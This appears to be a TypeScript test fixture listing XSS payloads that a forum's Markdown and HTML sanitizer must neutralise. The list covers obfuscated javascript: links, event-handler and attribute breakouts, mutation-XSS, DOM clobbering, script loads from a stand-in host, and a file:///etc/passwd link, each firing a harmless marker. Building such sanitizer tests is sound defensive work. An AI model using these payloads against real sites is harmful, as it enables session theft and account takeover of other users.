/** What every script in here does: whoever runs it is found out. */
const RUN = 'window.pwned=1';
const SVG = 'data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9IndpbmRvdy5wd25lZD0xIi8+';

const LINKS = [
  `[a](javascript:${RUN})`,
  `[a](JaVaScRiPt:${RUN})`,
  `[a](<javascript:${RUN}>)`,
  `[a](< javascript:${RUN}>)`,
  `[a](<java\tscript:${RUN}>)`,
  `[a](java&Tab;script:${RUN})`,
  `[a](java&NewLine;script:${RUN})`,
  `[a](javascript&colon;${RUN})`,
  `[a](&#106;avascript:${RUN})`,
  `[a](&#x6A&#x61&#x76&#x61script:${RUN})`,
  `[a](&#1;javascript:${RUN})`,
  `[a](&#14;&#32;javascript:${RUN})`,
  `[a](\\javascript:${RUN})`,
  `[a](javascript\\:${RUN})`,
  `[a](%6aavascript:${RUN})`,
  `[a](javascript%3A${RUN})`,
  `[a](javascript://x.example/%0a${RUN})`,
  `[a](javascript:\`${RUN}\`)`,
  `[a](\u00a0javascript:${RUN})`,
  `[a](\u200bjavascript:${RUN})`,
  `[a](ｊａｖａｓｃｒｉｐｔ:${RUN})`,
  `[a](vbscript:${RUN})`,
  `[a](data:text/html,<script>${RUN}</script>)`,
  `[a](<data:text/html,<script>${RUN}</script>>)`,
  '[a](data:text/html;base64,PHNjcmlwdD53aW5kb3cucHduZWQ9MTwvc2NyaXB0Pg==)',
  `[a](blob:https://x.example/${RUN})`,
  `[a](filesystem:https://x.example/${RUN})`,
  `[a](view-source:javascript:${RUN})`,
  `[a](feed:javascript:${RUN})`,
  `[a](jar:javascript:${RUN}!/)`,
  '[a](file:///etc/passwd)',
  '[a](//x.example/pwned)',
  '[a](\\\\x.example/pwned)',
  '[a](/\\x.example/pwned)',
  '[a](https:x.example)',
  '[a](https:\\\\x.example\\pwned)',
  `[a](https://x.example/"onmouseover="${RUN})`,
  `[a](<https://x.example/"><script>${RUN}</script>>)`,
  `[a](https://x.example "t" onmouseover="${RUN}")`,
  `[a](https://x.example '"><img src=pwned onerror=${RUN}>')`,
  `[a](https://x.example "&quot; onfocus=${RUN} autofocus tabindex=1 &quot;")`,
  `[a](https://x.example (' onclick='${RUN}))`,
  `[a](https://x.example\u2028onclick=${RUN})`,
  `[a](https://javascript:${RUN}@x.example/)`,
  `[a](mailto:a@x.example?subject=<script>${RUN}</script>)`,
  `[a](mailto:"onclick="${RUN}"@x.example)`,
  `[<script>${RUN}</script>](https://x.example)`,
  `[a][b]\n\n[b]: javascript:${RUN}`,
  `[b]\n\n[b]: <javascript:${RUN}> "title"`,
  `[b]\n\n[b]:\n  java&#x0A;script:${RUN}\n  '"><svg onload=${RUN}>'`,
  `[\`b\`][]\n\n[\`b\`]: data:text/html,<script>${RUN}</script>`,
];

const AUTOLINKS = [
  `<javascript:${RUN}>`,
  `<JAVASCRIPT:${RUN}>`,
  `<data:text/html,<script>${RUN}</script>>`,
  `<https://x.example/"onclick="${RUN}>`,
  `<https://x.example/<script>${RUN}</script>>`,
  `javascript:${RUN} https://x.example/'onclick='${RUN}`,
  `https://x.example/)[a](javascript:${RUN})`,
  `mailto:a@x.example"><img/src=pwned/onerror=${RUN}>`,
];

const IMAGES = [
  `![a](javascript:${RUN})`,
  `![a](vbscript:${RUN})`,
  `![a](${SVG})`,
  `![a](data:image/svg+xml,<svg onload=${RUN}>)`,
  `![a](blob:${RUN})`,
  '![a](https://x.example/pwned.png)',
  '![a](//x.example/pwned.png)',
  '![a](/pwned.png)',
  '![a](pwned.svg#<script>)',
  `![" onerror="${RUN}](https://x.example/pwned.png)`,
  `![a](https://x.example/pwned.png '" onerror="${RUN}')`,
  `![a](pwned"onerror="${RUN})`,
  `![<img src=pwned onerror=${RUN}>](pwned)`,
  `![a][b]\n\n[b]: ${SVG}`,
];

const NESTED = [
  `[![a](javascript:${RUN})](javascript:${RUN})`,
  `![[a](javascript:${RUN})](https://x.example)`,
  `[a [b](javascript:${RUN}) c](https://x.example)`,
  `***[a](javascript:${RUN})*~~**<b onclick=${RUN}>~~`,
  `**<script>**${RUN}**</script>**`,
  `_[a_](javascript:${RUN})_<a href=javascript:${RUN}>_b_</a>`,
  `\`<script>\`${RUN}\`</script>\``,
  `> - > <img src=pwned onerror=${RUN}>\n>   > 1. [a](javascript:${RUN})`,
  `${'['.repeat(40)}a${`](javascript:${RUN})`.repeat(40)}`,
  `${'> '.repeat(30)}<svg onload=${RUN}>`,
];

const ENTITIES = [
  `&lt;script&gt;${RUN}&lt;/script&gt;`,
  `&#60;img src=pwned onerror=${RUN}&#62;`,
  `&#x3c;svg/onload=${RUN}&#x3e;`,
  `&amp;lt;script&amp;gt;${RUN}`,
  `&LT;img src=pwned onerror=${RUN}&GT;`,
  `&#0;<&#0;script>${RUN}</script>`,
  `\\<script>${RUN}\\</script>`,
];

const RAW = [
  `<script>${RUN}</script>`,
  '<script src=//x.example/pwned.js></script>',
  '<script type=module>import "/pwned.js"</script>',
  `<ScRiPt\n>${RUN}</sCrIpT\n>`,
  `</script><script>${RUN}</script>`,
  `</title></textarea></style></noscript><script>${RUN}</script>`,
  `<img src=pwned onerror=${RUN}>`,
  `<img srcset="pwned 1x" sizes=1 onerror=${RUN}>`,
  '<img src=//x.example/pwned.gif>',
  `<iframe src="javascript:parent.pwned=1"></iframe>`,
  `<iframe srcdoc="<script>parent.pwned=1</script>"></iframe>`,
  `<svg onload=${RUN}></svg>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><a xlink:href="javascript:${RUN}"><text y=20>a</text></a></svg>`,
  `<svg><animate onbegin=${RUN} attributeName=x dur=1s></svg>`,
  '<svg><use href="//x.example/pwned.svg#a"/></svg>',
  `<math href="javascript:${RUN}"><mi>a</mi></math>`,
  '<style>@import "//x.example/pwned.css";*{background:url(/pwned)}</style>',
  `<p style="background:url(//x.example/pwned)" onclick=${RUN}>a</p>`,
  '<link rel=stylesheet href=//x.example/pwned.css>',
  `<meta http-equiv=refresh content="0;url=javascript:${RUN}">`,
  '<meta http-equiv=refresh content="0;url=/pwned">',
  '<base href=//x.example/pwned/>',
  `<form action=javascript:${RUN}><button>a</button></form>`,
  `<form id=pwned-form></form><button form=pwned-form formaction=javascript:${RUN}>a</button>`,
  `<input autofocus onfocus=${RUN}>`,
  `<object data="javascript:${RUN}"></object>`,
  `<embed src="data:text/html,<script>parent.pwned=1</script>">`,
  `<template><script>${RUN}</script></template>`,
  `<template shadowrootmode=open><script>${RUN}</script></template>`,
  `<details open ontoggle=${RUN}><summary>a</summary></details>`,
  `<video autoplay onerror=${RUN}><source src=pwned></video>`,
  `<audio src=pwned onerror=${RUN}>`,
  `<b popover id=pwned-popover onbeforetoggle=${RUN}>a</b>`,
  `<div onpointerover=${RUN} onanimationstart=${RUN} contenteditable>a</div>`,
  `<comment-item></comment-item><thread-page data-thread=pwned>`,
  `</div></article></main><img src=pwned onerror=${RUN}>`,
  `" autofocus onfocus=${RUN} x="`,
  `' onmouseover='${RUN}`,
  `--><script>${RUN}</script><!--`,
  `]]><script>${RUN}</script>`,
  `\${${RUN}}{{constructor.constructor('${RUN}')()}}`,
];

const CLOBBERING = [
  '<a id=customElements></a><a id=customElements name=define></a>',
  '<img name=getElementById><img name=body>',
  '<form id=session></form><form name=trustedTypes id=data>',
  '<div id=main></div><div id=c1></div><div id=pwned-id>a</div>',
  '# session {#session}\n\n## a {onclick=pwned .x #data}',
];

const TABLES = [
  `| <script>${RUN}</script> | [a](javascript:${RUN}) |\n|---|:-:|\n| <img src=pwned onerror=${RUN}> | ![a](${SVG}) |`,
  `| a |\n|:-:" onclick="${RUN}|\n| b |`,
  `<table><td background=//x.example/pwned onclick=${RUN}>a</table>`,
];

const FENCES = [
  `\`\`\`js" onclick="${RUN}\na\n\`\`\``,
  `\`\`\`"><script>${RUN}</script>\na\n\`\`\``,
  `~~~ html onload=${RUN}\n<script>${RUN}</script>\n~~~`,
  `\`\`\`html\n</code></pre><img src=pwned onerror=${RUN}>\n\`\`\``,
  `\`\`\`constructor\n<script>${RUN}</script>\n\`\`\``,
  `\`\`\`__proto__\n<svg onload=${RUN}>\n\`\`\``,
  `    </code></pre><script>${RUN}</script>`,
  `\`\`\`xml\n<![CDATA[<script>${RUN}</script>]]>`,
];

const MUTATION = [
  `<noscript><p title="</noscript><img src=pwned onerror=${RUN}>">`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--><img src=pwned onerror=${RUN}>">`,
  `<svg></p><style><a title="</style><img src=pwned onerror=${RUN}>">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src=pwned onerror=${RUN}>`,
  `<select><style></select><img src=pwned onerror=${RUN}></style>`,
  `<textarea><img title="</textarea><img src=pwned onerror=${RUN}>">`,
  `<!--[if]><img src=pwned onerror=${RUN}>--!><img src=pwned onerror=${RUN}>`,
  `<?xml-stylesheet href="javascript:${RUN}"?><!DOCTYPE a><img src=pwned onerror=${RUN}>`,
];

const LONG = [
  `<img alt="${'a'.repeat(20_000)}" src=pwned onerror=${RUN}>`,
  `[a](https://x.example/${'a'.repeat(1_900)}"onclick="${RUN})`,
  `[a](javascript:${'a'.repeat(5_000)};${RUN})`,
  `\`\`\`${'a'.repeat(3_000)}"onclick=${RUN}\na\n\`\`\``,
];

const BIDIRECTIONAL = [
  `\u202e<script>${RUN}</script>\u202c`,
  `[a\u202e](\u2066javascript:${RUN}\u2069)`,
  `<scr\u200bipt>${RUN}</scr\u200bipt>\u061c`,
  `שלום <img src=pwned onerror=${RUN}> \u200f[א](javascript:${RUN})`,
];

/** The forum's own: each a text that would do harm, were some step of its way careless. */
export const OWN_PAYLOADS: readonly string[] = [
  ...LINKS,
  ...AUTOLINKS,
  ...IMAGES,
  ...NESTED,
  ...ENTITIES,
  ...RAW,
  ...CLOBBERING,
  ...TABLES,
  ...FENCES,
  ...MUTATION,
  ...LONG,
  ...BIDIRECTIONAL,
];
